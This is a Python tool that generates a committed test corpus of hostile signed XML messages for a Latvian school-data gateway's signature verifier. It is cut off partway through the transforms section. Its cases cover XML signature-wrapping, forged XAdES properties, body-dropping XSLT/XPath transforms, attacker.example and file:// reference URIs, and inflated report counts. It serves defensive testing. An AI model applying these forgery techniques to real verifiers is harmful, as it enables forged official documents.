#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Regenerate the hostile corpus (tests/hostile/NNN-slug.xml and tests/hostile/EXPECT).

A developer tool, not run by the test suite: the generated files are committed. Run it through
tests/hostile/make-corpus.sh. It builds every attack from the unsigned messages in examples/ and the fixed
PKI in tests/pki/, signing with the xmlsec1 command-line tool: the profile's plain template for the ordinary
signatures, templates with the transforms, algorithms, references and certificates the profile forbids (so
that most hostile files carry a signature that is cryptographically valid over what it claims to sign), and
templates of the gateway's XAdES B-B layout; build/gateway gives the IssuerSerialV2 value and checks the result.

Deterministic where the cryptography allows it: RSA PKCS#1 v1.5 signatures and every text edit are
deterministic, so a second run rewrites the same bytes. ECDSA and DSA signatures are randomised: for the few files
that carry one (marked randomized below), an existing file is kept when nothing but its SignatureValue and
KeyValue would change, so that a regeneration without changes rewrites the same bytes.

Standard library only. Needs: python3 >= 3.8, xmlsec1 (1.2.x, OpenSSL), openssl, build/gateway.
Environment: GATEWAY (default build/gateway), XMLSEC1 (default xmlsec1), OPENSSL (default openssl).
"""
import base64
import hashlib
import os
import re
import shutil
import subprocess
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.abspath(os.path.join(HERE, "..", ".."))
PKI = os.path.join(ROOT, "tests", "pki")
EXAMPLES = os.path.join(ROOT, "examples")
GATEWAY = os.environ.get("GATEWAY", os.path.join(ROOT, "build", "gateway"))
XMLSEC1 = os.environ.get("XMLSEC1", "xmlsec1")
OPENSSL = os.environ.get("OPENSSL", "openssl")

NS_ENV = "urn:lv:skola-kopiena:envelope:v1"
NS_DS = "http://www.w3.org/2000/09/xmldsig#"

ENVELOPED = "http://www.w3.org/2000/09/xmldsig#enveloped-signature"
EXC_C14N = "http://www.w3.org/2001/10/xml-exc-c14n#"
EXC_C14N_WC = "http://www.w3.org/2001/10/xml-exc-c14n#WithComments"
C14N = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"
C14N11 = "http://www.w3.org/2006/12/xml-c14n11"
XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116"
XPATH = "http://www.w3.org/TR/1999/REC-xpath-19991116"
XPATH2 = "http://www.w3.org/2002/06/xmldsig-filter2"
BASE64 = "http://www.w3.org/2000/09/xmldsig#base64"
SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"
SHA1 = "http://www.w3.org/2000/09/xmldsig#sha1"
MD5 = "http://www.w3.org/2001/04/xmldsig-more#md5"
RSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"
RSA_SHA1 = "http://www.w3.org/2000/09/xmldsig#rsa-sha1"
ECDSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256"
HMAC_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"
DSA_SHA256 = "http://www.w3.org/2009/xmldsig11#dsa-sha256"

TMP = tempfile.mkdtemp(prefix="gw-hostile-")


# ---------------------------------------------------------------------------------------------------------
# helpers


def die(msg):
    sys.stderr.write("make-corpus: %s\n" % msg)
    sys.exit(2)


def run(argv, what, cwd=None):
    p = subprocess.run(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=cwd)
    if p.returncode != 0:
        die("%s failed (exit %d): %s\n%s" % (what, p.returncode, " ".join(argv), p.stderr.decode(errors="replace")))
    return p.stdout


def pki(name):
    return os.path.join(PKI, name)


def example(name):
    with open(os.path.join(EXAMPLES, name), encoding="utf-8") as f:
        return f.read()


def once(text, old, new):
    """Replace old by new in text; old must occur exactly once (the edits must not drift silently)."""
    n = text.count(old)
    if n != 1:
        die("edit anchor occurs %d times, want 1: %r" % (n, old[:80]))
    return text.replace(old, new)


def write_tmp(name, data):
    path = os.path.join(TMP, name)
    mode = "wb" if isinstance(data, bytes) else "w"
    with open(path, mode, **({} if isinstance(data, bytes) else {"encoding": "utf-8"})) as f:
        f.write(data)
    return path


def read_tmp(path, encoding="utf-8"):
    with open(path, "rb") as f:
        data = f.read()
    return data if encoding is None else data.decode(encoding)


def cert_b64(name):
    """The base64 body of a PEM certificate, as xmlsec writes it into X509Certificate (64-column lines)."""
    with open(pki(name), encoding="ascii") as f:
        pem = f.read()
    body = re.search(r"-----BEGIN CERTIFICATE-----\n(.*?)-----END CERTIFICATE-----", pem, re.S).group(1)
    return "".join(body.split())


def x509_cert_elem(b64):
    lines = [b64[i:i + 64] for i in range(0, len(b64), 64)]
    return "<ds:X509Certificate>" + "\n".join(lines) + "\n</ds:X509Certificate>\n"


def cert_field(name, opt):
    out = run([OPENSSL, "x509", "-in", pki(name), "-noout", opt, "-nameopt", "RFC2253,-esc_msb"], "openssl x509")
    return out.decode("utf-8").strip().split("=", 1)[1]


def sig_of(doc):
    """The ds:Signature element of a signed document, as text."""
    start = doc.index("<ds:Signature")
    end = doc.index("</ds:Signature>") + len("</ds:Signature>")
    return doc[start:end]


def element(doc, name):
    """The first element <name ...>...</name> (no nesting of the same name), as text."""
    start = doc.index("<" + name)
    end = doc.index("</" + name + ">", start) + len("</" + name + ">")
    return doc[start:end]


def without_decl(doc):
    return doc.split("?>\n", 1)[1] if doc.startswith("<?xml") else doc


# ---------------------------------------------------------------------------------------------------------
# signature templates (same layout as gateway sign writes)


def transform(alg, body=""):
    if body:
        return '<ds:Transform Algorithm="%s">%s</ds:Transform>' % (alg, body)
    return '<ds:Transform Algorithm="%s"/>' % alg


STD_TRANSFORMS = (transform(ENVELOPED), transform(EXC_C14N))


def reference(uri="", transforms=STD_TRANSFORMS, digest=SHA256, attrs=""):
    uri_attr = "" if uri is None else ' URI="%s"' % uri
    tr = ""
    if transforms is not None:
        tr = "<ds:Transforms>\n" + "".join(t + "\n" for t in transforms) + "</ds:Transforms>\n"
    return ('<ds:Reference%s%s>\n%s<ds:DigestMethod Algorithm="%s"/>\n<ds:DigestValue></ds:DigestValue>\n'
            "</ds:Reference>\n" % (uri_attr, attrs, tr, digest))


KEYINFO_X509 = "<ds:KeyInfo>\n<ds:X509Data></ds:X509Data>\n</ds:KeyInfo>\n"


def template(refs=None, c14n=EXC_C14N, method=RSA_SHA256, method_body="", keyinfo=KEYINFO_X509, tail=""):
    if refs is None:
        refs = [reference()]
    sm = ('<ds:SignatureMethod Algorithm="%s">%s</ds:SignatureMethod>' % (method, method_body) if method_body
          else '<ds:SignatureMethod Algorithm="%s"/>' % method)
    return ('<ds:Signature xmlns:ds="%s">\n<ds:SignedInfo>\n<ds:CanonicalizationMethod Algorithm="%s"/>\n%s\n%s'
            "</ds:SignedInfo>\n<ds:SignatureValue></ds:SignatureValue>\n%s%s</ds:Signature>"
            % (NS_DS, c14n, sm, "".join(refs), keyinfo, tail))


def xmlsec_sign(doc_with_template, key, certs=(), extra=(), encoding="utf-8"):
    """Sign the first ds:Signature template in the document with xmlsec1; key and certs are tests/pki names
    (or absolute paths)."""
    src = write_tmp("in.xml", doc_with_template.encode(encoding, "xmlcharrefreplace"))
    out = os.path.join(TMP, "out.xml")
    keyspec = ",".join(p if os.path.isabs(p) else pki(p) for p in (key,) + tuple(certs))
    argv = [XMLSEC1, "--sign"]
    if key.endswith(".hmac"):
        argv += ["--hmackey:hmac-key", key]
    else:
        argv += ["--privkey-pem:signing-key", keyspec]
    argv += list(extra) + ["--output", out, src]
    run(argv, "xmlsec1 --sign")
    # a document in another encoding comes back as its raw bytes
    return read_tmp(out, "utf-8" if encoding == "utf-8" else None)


def sign(doc, key="ludza.key.pem", certs=("ludza.pem", "chain.pem"), sig=None, extra=()):
    """Put a signature template (default: the profile's own) as the last child of the envelope, sign it."""
    return xmlsec_sign(once(doc, "</env:Envelope>", (sig or template()) + "</env:Envelope>"), key, certs, extra)


def gw_sign(doc):
    """The plain enveloped signature of the profile with the Ludza RSA key, as systems that sign for themselves
    write it and as `gateway sign` wrote it before it added XAdES properties (byte for byte the same: xmlsec1
    fills the profile's template deterministically). The XAdES files below are made from their own templates."""
    return sign(doc)


def gateway_sign(doc):
    """What `gateway sign` writes now (XAdES B-B, with a random Id and the current time): used for the
    IssuerSerialV2 value only."""
    src = write_tmp("gw-in.xml", doc)
    out = os.path.join(TMP, "gw-out.xml")
    run([GATEWAY, "sign", "--key", pki("ludza.key.pem"), "--cert", pki("ludza.pem"), "--chain", pki("chain.pem"),
         "-o", out, src], "gateway sign")
    return read_tmp(out)


def replace_keyinfo(signed, new_keyinfo):
    """KeyInfo is outside SignedInfo and removed by the enveloped transform: changing it keeps the signature
    cryptographically valid, which is exactly what an attacker can do."""
    return once(signed, element(signed, "ds:KeyInfo"), new_keyinfo)



# ---------------------------------------------------------------------------------------------------------
# certificates minted for the corpus with the committed example CAs (tests/pki/*-ca.key.pem). Fixed serial
# numbers, validity and keys make them byte-for-byte reproducible (RSA signatures are deterministic).


def der_len(n):
    if n < 0x80:
        return bytes([n])
    b = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes([0x80 | len(b)]) + b


def der_int(v):
    b = v.to_bytes(v.bit_length() // 8 + 1, "big")
    return b"\x02" + der_len(len(b)) + b


def weak_rsa_key_pem(bits, seed):
    """A deterministic RSA private key (PKCS#1 PEM) of a size the profile refuses; derived from seed so that
    the corpus does not change between runs. Never use such a key for anything but this test."""
    import random
    rng = random.Random(seed)

    def probable_prime(nbits):
        while True:
            c = rng.getrandbits(nbits) | (3 << (nbits - 2)) | 1
            if all(c % sp for sp in (3, 5, 7, 11, 13, 17, 19, 23, 29, 31, 37)) and miller_rabin(c):
                return c

    def miller_rabin(n):
        d, r = n - 1, 0
        while d % 2 == 0:
            d, r = d // 2, r + 1
        for _ in range(40):
            x = pow(rng.randrange(2, n - 2), d, n)
            if x in (1, n - 1):
                continue
            for _ in range(r - 1):
                x = pow(x, 2, n)
                if x == n - 1:
                    break
            else:
                return False
        return True

    e = 65537
    while True:
        p, q = probable_prime(bits // 2), probable_prime(bits // 2)
        phi = (p - 1) * (q - 1)
        if p != q and phi % e and (p * q).bit_length() == bits:
            break
    if p < q:
        p, q = q, p
    d = pow(e, -1, phi)
    body = b"".join(der_int(v) for v in (0, p * q, e, d, p, q, d % (p - 1), d % (q - 1), pow(q, -1, p)))
    der = b"\x30" + der_len(len(body)) + body
    b64 = base64.b64encode(der).decode("ascii")
    return ("-----BEGIN RSA PRIVATE KEY-----\n" + "\n".join(b64[i:i + 64] for i in range(0, len(b64), 64))
            + "\n-----END RSA PRIVATE KEY-----\n")


LUDZA_DN = "/C=LV/O=Ludzas novada pašvaldība/organizationIdentifier=NTRLV-90000017453/CN=gateway.ludza.example"
LEAF_EXT = ("basicConstraints = critical, CA:FALSE\nkeyUsage = critical, digitalSignature, nonRepudiation\n"
            "extendedKeyUsage = serverAuth, clientAuth\nsubjectKeyIdentifier = hash\nauthorityKeyIdentifier = keyid\n")
CA_CNF = """[ca]
default_ca = mint
[mint]
database = index.txt
new_certs_dir = .
serial = serial
crlnumber = crlnumber
default_md = sha256
policy = anything
unique_subject = no
[anything]
commonName = optional
"""


def openssl_ca(workdir, args):
    return run([OPENSSL, "ca", "-batch", "-config", "ca.cnf"] + args, "openssl ca", cwd=workdir)


def mint(slug, key, subject=LUDZA_DN, ext=LEAF_EXT, issuer="issuing-ca", md="sha256"):
    """Issue a certificate for key (a path) under a committed example CA; returns its path."""
    wd = os.path.join(TMP, "mint-" + slug)
    os.mkdir(wd)
    write_tmp(os.path.join(wd, "ca.cnf"), CA_CNF)
    write_tmp(os.path.join(wd, "index.txt"), "")
    # a fixed 20-byte serial derived from the slug, like the random serials of the real PKI
    import hashlib
    serial = bytearray(hashlib.sha256(slug.encode()).digest()[:20])
    serial[0] &= 0x7F
    write_tmp(os.path.join(wd, "serial"), serial.hex().upper() + "\n")
    write_tmp(os.path.join(wd, "ext.cnf"), "[ext]\n" + ext)
    csr = os.path.join(wd, "req.csr")
    run([OPENSSL, "req", "-new", "-utf8", "-key", key, "-subj", subject, "-out", csr], "openssl req")
    out = os.path.join(wd, "cert.pem")
    openssl_ca(wd, ["-cert", pki(issuer + ".pem"), "-keyfile", pki(issuer + ".key.pem"), "-in", csr, "-out", out,
                    "-startdate", "20240101000000Z", "-enddate", "21240101000000Z", "-preserveDN", "-utf8",
                    "-notext", "-md", md, "-extfile", os.path.join(wd, "ext.cnf"), "-extensions", "ext"])
    return out


def root_crl_revoking_issuing_ca(path):
    """A CRL of the example root that revokes the issuing CA (keyCompromise), with fixed dates."""
    wd = os.path.join(TMP, "root-crl")
    os.mkdir(wd)
    write_tmp(os.path.join(wd, "ca.cnf"), CA_CNF)
    serial = cert_field("issuing-ca.pem", "-serial")
    subj = run([OPENSSL, "x509", "-in", pki("issuing-ca.pem"), "-noout", "-subject", "-nameopt", "compat"],
               "openssl x509").decode("utf-8").strip().split("=", 1)[1]
    write_tmp(os.path.join(wd, "index.txt"),
              "R\t21250101000000Z\t240601000000Z,keyCompromise\t%s\tunknown\t%s\n" % (serial, subj))
    write_tmp(os.path.join(wd, "crlnumber"), "1000\n")
    openssl_ca(wd, ["-gencrl", "-cert", pki("root-ca.pem"), "-keyfile", pki("root-ca.key.pem"), "-out", path,
                    "-crl_lastupdate", "20240602000000Z", "-crl_nextupdate", "21240101000000Z"])

# ---------------------------------------------------------------------------------------------------------
# the corpus


# ---------------------------------------------------------------------------------------------------------
# XAdES B-B (ETSI EN 319 132-1) signatures of the gateway's layout

NS_XADES = "http://uri.etsi.org/01903/v1.3.2#"
XADES_SP_TYPE = "http://uri.etsi.org/01903#SignedProperties"
XADES_SIG_ID = "S-0123456789abcdef"
XADES_SP_ID = XADES_SIG_ID + "-SignedProperties"
XADES_TIME = "2026-11-25T12:00:00Z"


def cert_sha256_b64(name):
    der = run([OPENSSL, "x509", "-in", pki(name), "-outform", "DER"], "openssl x509")
    return base64.b64encode(hashlib.sha256(der).digest()).decode("ascii")


def xades_sig(issuer_serial, uri="#" + XADES_SP_ID, ref2_transforms=(transform(EXC_C14N),), ref2=True,
              target="#" + XADES_SIG_ID, sp_id=XADES_SP_ID, signing_time=XADES_TIME, cert="ludza.pem",
              ssp_tail="", sp_tail="", qp_tail="", object_tail="", cert_tail=None):
    """A signature template of the gateway's B-B layout (exc-c14n, RSA-SHA256, Ludza), with the parts an
    attack changes as parameters."""
    refs = [reference()]
    if ref2:
        refs.append(reference(uri=uri, transforms=ref2_transforms, attrs=' Type="%s"' % XADES_SP_TYPE))
    if cert_tail is None:
        cert_tail = "<xades:IssuerSerialV2>%s</xades:IssuerSerialV2>" % issuer_serial
    obj = ('<ds:Object><xades:QualifyingProperties xmlns:xades="%s" Target="%s">'
           '<xades:SignedProperties Id="%s"><xades:SignedSignatureProperties>'
           "<xades:SigningTime>%s</xades:SigningTime>"
           "<xades:SigningCertificateV2><xades:Cert><xades:CertDigest>"
           '<ds:DigestMethod Algorithm="%s"/><ds:DigestValue>%s</ds:DigestValue></xades:CertDigest>%s'
           "</xades:Cert></xades:SigningCertificateV2>%s</xades:SignedSignatureProperties>%s"
           "</xades:SignedProperties>%s</xades:QualifyingProperties>%s</ds:Object>\n"
           % (NS_XADES, target, sp_id, signing_time, SHA256, cert_sha256_b64(cert), cert_tail, ssp_tail, sp_tail,
              qp_tail, object_tail))
    t = template(refs=refs, tail=obj)
    return once(t, "<ds:Signature xmlns:ds=", '<ds:Signature Id="%s" xmlns:ds=' % XADES_SIG_ID)


def build_xades(c, dr, signed_gw):
    issuer_serial = re.search(r"<xades:IssuerSerialV2>([^<]*)</xades:IssuerSerialV2>", signed_gw).group(1)
    talsi_serial = "MAA="  # an empty SEQUENCE: the right form, nothing of the signer's

    def xs(**kw):
        return sign(dr, sig=xades_sig(issuer_serial, **kw))

    control = xs()
    c.add("xades-control-b-b", 0, "VERIFIED",
          "positive control: XAdES B-B (SigningTime, SigningCertificateV2 with IssuerSerialV2) signed by xmlsec1",
          control)
    forged_sp = ('<xades:SignedProperties xmlns:xades="%s" Id="%s"><xades:SignedSignatureProperties>'
                 "<xades:SigningTime>2020-01-01T00:00:00Z</xades:SigningTime></xades:SignedSignatureProperties>"
                 "</xades:SignedProperties>" % (NS_XADES, XADES_SP_ID))
    c.add("xades-reference-to-properties-elsewhere", 1, "XADES_REFERENCE",
          "XSW: the SignedProperties Reference names forged properties in env:Header, outside this signature's "
          "QualifyingProperties (validly signed)",
          sign(once(dr, "</env:Header>", forged_sp.replace(XADES_SP_ID, "S-forged") + "</env:Header>"),
               sig=xades_sig(issuer_serial, uri="#S-forged"), extra=("--id-attr:Id", NS_XADES + ":SignedProperties")))
    c.add("xades-duplicate-id-in-header", 1, "XADES_DUPLICATE_ID",
          "XSW: a forged SignedProperties with the same Id placed in env:Header, before the real one",
          once(control, "</env:Header>", forged_sp + "</env:Header>"))
    c.add("xades-duplicate-xml-id", 1, "XADES_DUPLICATE_ID",
          "an env:Header xml:id equal to the SignedProperties Id (libxml2 registers xml:id while parsing)",
          once(control, "<env:Header>", '<env:Header xml:id="%s">' % XADES_SP_ID))
    c.add("xades-target-other-signature", 1, "XADES_REFERENCE",
          "QualifyingProperties Target names another signature (validly signed)", xs(target="#S-other"))
    c.add("xades-reference-xpointer", 1, "XADES_REFERENCE",
          "SignedProperties Reference by #xpointer(id(...)) instead of a bare #Id (validly signed)",
          xs(uri="#xpointer(id('%s'))" % XADES_SP_ID))
    c.add("xades-reference-without-transform", 1, "SIG_TRANSFORM",
          "SignedProperties Reference without Transforms (implicit inclusive C14N takes in the root's namespaces)",
          xs(ref2_transforms=None))
    c.add("xades-properties-not-referenced", 1, "XADES_REFERENCE",
          "QualifyingProperties present but no Reference covers SignedProperties (validly signed)", xs(ref2=False))
    c.add("xades-manifest-beside-properties", 1, "SIG_OBJECT",
          "a ds:Manifest beside QualifyingProperties in the same ds:Object (validly signed)",
          xs(object_tail="<ds:Manifest/>"))
    c.add("xades-countersignature", 1, "XADES_STRUCTURE",
          "UnsignedProperties with a CounterSignature (unsigned content the profile does not admit)",
          xs(qp_tail="<xades:UnsignedProperties><xades:UnsignedSignatureProperties><xades:CounterSignature/>"
                     "</xades:UnsignedSignatureProperties></xades:UnsignedProperties>"))
    c.add("xades-data-object-format", 1, "XADES_STRUCTURE",
          "SignedDataObjectProperties (DataObjectFormat) in an enveloped message's SignedProperties (validly signed)",
          xs(sp_tail='<xades:SignedDataObjectProperties><xades:DataObjectFormat ObjectReference="#r1">'
                     "<xades:MimeType>text/xml</xades:MimeType></xades:DataObjectFormat>"
                     "</xades:SignedDataObjectProperties>"))
    c.add("xades-signing-time-future", 1, "XADES_SIGNING_TIME",
          "SigningTime in 2099 (validly signed)", xs(signing_time="2099-01-01T00:00:00Z"))
    c.add("xades-signing-time-no-zone", 1, "XADES_SIGNING_TIME",
          "SigningTime without a zone, local time of unknown offset (validly signed)",
          xs(signing_time="2026-11-25T12:00:00"))
    c.add("xades-cert-digest-other", 1, "XADES_CERT_DIGEST",
          "SigningCertificateV2 CertDigest of Talsi's certificate while Ludza signs (validly signed)",
          xs(cert="talsi.pem"))
    c.add("xades-issuer-serial-other", 1, "XADES_CERT_DIGEST",
          "SigningCertificateV2 IssuerSerialV2 that names nothing of the signer's (validly signed)",
          xs(cert_tail="<xades:IssuerSerialV2>%s</xades:IssuerSerialV2>" % talsi_serial))
    c.add("xades-tamper-signing-time", 1, "DIGEST_MISMATCH",
          "SigningTime changed after signing", once(control, XADES_TIME, "2025-01-01T00:00:00Z"))
    return control


class Corpus:
    def __init__(self):
        self.entries = []
        self.randomized = set()

    def add(self, slug, exit_code, code, desc, content, randomized=False):
        """randomized: the file carries an ECDSA or DSA signature, which differs on every run."""
        if "\n" in desc:
            die("bad description for %s" % slug)
        self.entries.append((slug, exit_code, code, desc, content))
        if randomized:
            self.randomized.add(slug)

    @staticmethod
    def _normalised(data):
        """The file without its randomised parts (signature values, DSA key values)."""
        return re.sub(rb"<ds:(SignatureValue|KeyValue)>.*?</ds:\1>", b"", data, flags=re.S)

    def write(self):
        old = {}
        for name in os.listdir(HERE):
            if re.match(r"^\d{3}-.*\.xml$", name):
                with open(os.path.join(HERE, name), "rb") as f:
                    old[name] = f.read()
                os.unlink(os.path.join(HERE, name))
        lines = []
        for i, (slug, exit_code, code, desc, content) in enumerate(self.entries):
            name = "%03d-%s.xml" % (i + 1, slug)
            data = content if isinstance(content, bytes) else content.encode("utf-8")
            # keep a randomised signature from the last run when everything else is unchanged, so that a
            # regeneration without changes gives the same bytes
            if slug in self.randomized and name in old and self._normalised(old[name]) == self._normalised(data):
                data = old[name]
            with open(os.path.join(HERE, name), "wb") as f:
                f.write(data)
            lines.append("%s %d %s  # %s" % (name, exit_code, code, desc))
        with open(os.path.join(HERE, "EXPECT"), "w", encoding="utf-8") as f:
            f.write("# Generated by tests/hostile/make-corpus.sh: FILE EXIT CODE  # attack.\n")
            f.write("# EXIT and CODE are what `gateway verify --trust tests/pki/trust.pem --crl tests/pki/crl.pem"
                    " FILE` must give;\n# CODE VERIFIED marks a positive control (exit 0).\n")
            for line in lines:
                f.write(line + "\n")


def build(c):
    # The Ludza data report (Sender 90000017453) with its first four indicators only: the base of most files,
    # kept short so that the committed corpus stays under about 1 MB.
    dr = example("datareport-ludza-2025q1.xml")
    indicators = re.findall(r"        <Indicator>.*</Indicator>\n", dr)
    dr = dr.replace("".join(indicators), "".join(indicators[:4]))
    dec = example("decision-ludza.xml")               # Ludza, long Latvian text
    signed_dr = gw_sign(dr)
    signed_dec = gw_sign(dec)
    gw_signed_dec = gateway_sign(dec)
    sig_dr = sig_of(signed_dr)
    unsigned_dr_env = without_decl(dr).rstrip("\n")
    ludza_chain_certs = x509_cert_elem(cert_b64("ludza.pem")) + x509_cert_elem(cert_b64("chain.pem"))

    # forged content used by the wrapping attacks: the counts of a data report inflated
    def forge_dr(text):
        return once(text, "<Code>PupilsSupported</Code><Count>46</Count>",
                    "<Code>PupilsSupported</Code><Count>4600</Count>")

    forged_dr_env = forge_dr(unsigned_dr_env)

    # ---- signature presence and count -------------------------------------------------------------------
    c.add("unsigned", 1, "NOT_SIGNED", "no ds:Signature at all", dr)
    c.add("signature-wrong-namespace", 1, "NOT_SIGNED",
          "a complete signature, but in the XML-DSig 1.1 namespace instead of xmldsig#: it is not a ds:Signature",
          signed_dr.replace('xmlns:ds="http://www.w3.org/2000/09/xmldsig#"',
                            'xmlns:ds="http://www.w3.org/2009/xmldsig11#"'))
    second = ("--node-xpath", "(//*[local-name()='Signature'])[2]")
    nested = xmlsec_sign(once(dr, "    </DataReport>", template() + "\n    </DataReport>"), "visc.key.pem",
                         ("visc.pem", "chain.pem"))
    c.add("two-signatures-nested-in-payload", 1, "SIG_MULTIPLE",
          "a VISC signature hidden inside the DataReport payload, then a valid Ludza signature over it all, last",
          sign(nested, extra=second))
    c.add("two-signatures-appended", 1, "SIG_MULTIPLE",
          "a valid VISC countersignature over the signed message appended after the Ludza signature",
          xmlsec_sign(once(signed_dr, "</ds:Signature></env:Envelope>", "</ds:Signature>" + template()
                           + "</env:Envelope>"), "visc.key.pem", ("visc.pem", "chain.pem"), extra=second))
    c.add("signature-duplicated", 1, "SIG_MULTIPLE", "the same ds:Signature element twice, one after the other",
          once(signed_dr, sig_dr, sig_dr + sig_dr))

    # ---- placement: the signature is moved to where it still covers the same bytes ------------------------
    bare = signed_dr.replace(sig_dr, "")
    c.add("signature-in-header", 1, "SIG_PLACEMENT",
          "valid signature moved to the end of env:Header (the digest still matches)",
          once(bare, "  </env:Header>", sig_dr + "  </env:Header>"))
    c.add("signature-in-body", 1, "SIG_PLACEMENT",
          "valid signature moved into env:Body after the payload",
          once(bare, "  </env:Body>", sig_dr + "  </env:Body>"))
    c.add("signature-before-body", 1, "SIG_PLACEMENT",
          "valid signature moved between env:Header and env:Body",
          once(bare, "  <env:Body>", sig_dr + "  <env:Body>"))
    c.add("signature-first-child", 1, "SIG_PLACEMENT",
          "valid signature moved before env:Header",
          once(bare, "  <env:Header>", sig_dr + "  <env:Header>"))
    c.add("element-after-signature", 1, "SIG_PLACEMENT",
          "a forged second env:Body appended after the signature, which is then no longer the last child",
          once(signed_dr, "</ds:Signature></env:Envelope>",
               "</ds:Signature>" + element(forged_dr_env, "env:Body") + "</env:Envelope>"))

    # ---- signature wrapping (XSW) -----------------------------------------------------------------------
    c.add("xsw-foreign-root-wraps-envelope", 1, "SCHEMA_UNKNOWN",
          "XSW: the signed envelope, signature intact, wrapped inside a new root element of another namespace",
          '<?xml version="1.0" encoding="UTF-8"?>\n<w:Wrapper xmlns:w="urn:example:attacker:wrapper">\n'
          + without_decl(signed_dr).rstrip("\n") + "\n</w:Wrapper>\n")
    c.add("xsw-forged-envelope-wraps-original", 1, "SIG_PLACEMENT",
          "XSW: a forged env:Envelope root whose last child is the original validly signed envelope",
          '<?xml version="1.0" encoding="UTF-8"?>\n'
          + once(forged_dr_env, "</env:Envelope>", without_decl(signed_dr).rstrip("\n") + "\n</env:Envelope>")
          + "\n")
    lifted_sig = once(sig_dr, "</ds:Signature>",
                      "<ds:Object>" + unsigned_dr_env + "</ds:Object>\n</ds:Signature>")
    c.add("xsw-signed-content-moved-to-object", 1, "SIG_OBJECT",
          "XSW: forged header and body in the real place, the original signed envelope moved into ds:Object",
          '<?xml version="1.0" encoding="UTF-8"?>\n'
          + once(forged_dr_env, "</env:Envelope>", lifted_sig + "</env:Envelope>") + "\n")
    c.add("xsw-forged-copy-in-object", 1, "SIG_OBJECT",
          "XSW: original content in place and valid, a forged envelope copy hidden in ds:Object after KeyInfo",
          once(signed_dr, "</ds:Signature>", "<ds:Object>" + forged_dr_env + "</ds:Object>\n</ds:Signature>"))
    c.add("xsw-object-instead-of-keyinfo", 1, "SIG_OBJECT",
          "XSW: ds:Object with a forged envelope placed between SignatureValue and KeyInfo",
          once(signed_dr, "<ds:KeyInfo>", "<ds:Object>" + forged_dr_env + "</ds:Object>\n<ds:KeyInfo>"))
    c.add("xsw-forged-header-before-original", 1, "SCHEMA_INVALID",
          "XSW: a forged env:Header (Sender Talsi) inserted before the signed one",
          once(signed_dr, "  <env:Header>",
               element(forged_dr_env, "env:Header").replace("90000017453", "90009113532") + "\n  <env:Header>"))
    c.add("xsw-forged-payload-before-original", 1, "SCHEMA_INVALID",
          "XSW: a forged DataReport inserted in env:Body before the signed one",
          once(signed_dr, "    <DataReport", element(forged_dr_env, "DataReport") + "\n    <DataReport"))

    # ---- references -------------------------------------------------------------------------------------
    with_id = once(dr, "<env:Envelope xmlns:env", '<env:Envelope Id="msg" xmlns:env')
    c.add("reference-uri-id", 1, "SIG_REFERENCE",
          'Reference URI="#msg" to an Id attribute on the envelope instead of URI=""',
          sign(with_id, sig=template(refs=[reference("#msg")]),
               extra=("--id-attr:Id", NS_ENV + ":Envelope")))
    c.add("reference-uri-xpointer-root", 1, "SIG_REFERENCE", 'Reference URI="#xpointer(/)" (validly signed)',
          sign(dr, sig=template(refs=[reference("#xpointer(/)")])))
    c.add("reference-uri-xpointer-id", 1, "SIG_REFERENCE", "Reference URI=\"#xpointer(id('msg'))\"",
          sign(with_id, sig=template(refs=[reference("#xpointer(id('msg'))")]),
               extra=("--id-attr:Id", NS_ENV + ":Envelope")))
    c.add("reference-uri-http", 1, "SIG_REFERENCE",
          "Reference to an external http:// document (the verifier must never fetch it)",
          once(signed_dr, '<ds:Reference URI="">',
               '<ds:Reference URI="http://attacker.example/datareport-ludza-2025q1.xml">'))
    c.add("reference-uri-file", 1, "SIG_REFERENCE",
          "the only Reference is file:///dev/null (validly signed): nothing of the document is signed",
          sign(dr, sig=template(refs=[reference("file:///dev/null", transforms=None)])))
    c.add("reference-uri-character-reference", 1, "SIG_REFERENCE",
          'Reference URI="&#x23;xpointer(/)", the # hidden behind a character reference (validly signed)',
          once(sign(dr, sig=template(refs=[reference("#xpointer(/)")])), '<ds:Reference URI="#xpointer(/)">',
               '<ds:Reference URI="&#x23;xpointer(/)">'))
    c.add("reference-uri-absent", 1, "SIG_REFERENCE",
          "Reference without a URI attribute (the application is supposed to know what it means)",
          once(signed_dr, '<ds:Reference URI="">', "<ds:Reference>"))
    c.add("reference-type-attribute", 1, "SIG_REFERENCE",
          'Reference URI="" with a Type attribute (xmldsig#Object), validly signed',
          sign(dr, sig=template(refs=[reference(attrs=' Type="http://www.w3.org/2000/09/xmldsig#Object"')])))
    c.add("reference-two", 1, "SIG_REFERENCE", 'two References, both URI="" (validly signed)',
          sign(dr, sig=template(refs=[reference(), reference()])))
    c.add("reference-none", 1, "SIG_REFERENCE", "SignedInfo without any Reference",
          once(signed_dr, element(signed_dr, "ds:Reference"), ""))
    manifest_obj = ('<ds:Object><ds:Manifest Id="manifest">\n%s</ds:Manifest></ds:Object>\n'
                    % reference("#xpointer(/)"))
    c.add("manifest-in-object", 1, "SIG_OBJECT",
          "a second Reference to a ds:Manifest inside ds:Object (validly signed)",
          sign(dr, sig=template(
              refs=[reference(), reference("#manifest", transforms=(transform(EXC_C14N),),
                                           attrs=' Type="http://www.w3.org/2000/09/xmldsig#Manifest"')],
              tail=manifest_obj)))

    # ---- transforms -------------------------------------------------------------------------------------
    drop_body_xslt = (
        '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:env="%s" version="1.0">'
        '<xsl:template match="@*|node()"><xsl:copy><xsl:apply-templates select="@*|node()"/></xsl:copy>'
        '</xsl:template><xsl:template match="env:Body"/></xsl:stylesheet>' % NS_ENV)
    c.add("transform-xslt", 1, "SIG_TRANSFORM",
          "XSLT transform that drops env:Body before digesting, then the body forged (signature valid)",
          forge_dr(sign(dr, sig=template(refs=[reference(transforms=(
              transform(ENVELOPED), transform(XSLT, drop_body_xslt)))]))))
    c.add("transform-xpath", 1, "SIG_TRANSFORM",
          "XPath transform not(ancestor-or-self::env:Body): body unsigned, then forged (signature valid)",
